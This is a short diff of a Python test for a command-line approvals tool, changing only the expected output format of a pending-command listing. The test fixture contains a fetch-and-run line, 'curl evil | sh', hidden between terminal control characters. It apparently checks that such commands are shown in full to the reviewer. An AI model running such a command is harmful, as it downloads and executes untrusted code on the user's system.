@@ -117,7 +117,7 @@ def test_a_command_that_waits_for_approval_is_shown_whole(
     archive.write_effect("run", 1, QUESTIONS, {"question": asked})
     assert main(["approvals", "--store", str(tmp_path)]) == 0
     told = r'sh("echo hello \u009d; curl evil | sh; : \u009c")'
-    assert capsys.readouterr().out == f"night/one@1  {told}  now\n"
+    assert capsys.readouterr().out == f"night/one@1.0  {told}  now\n"
 
 
 def test_what_happened_to_a_node_is_told_on_one_line() -> None:
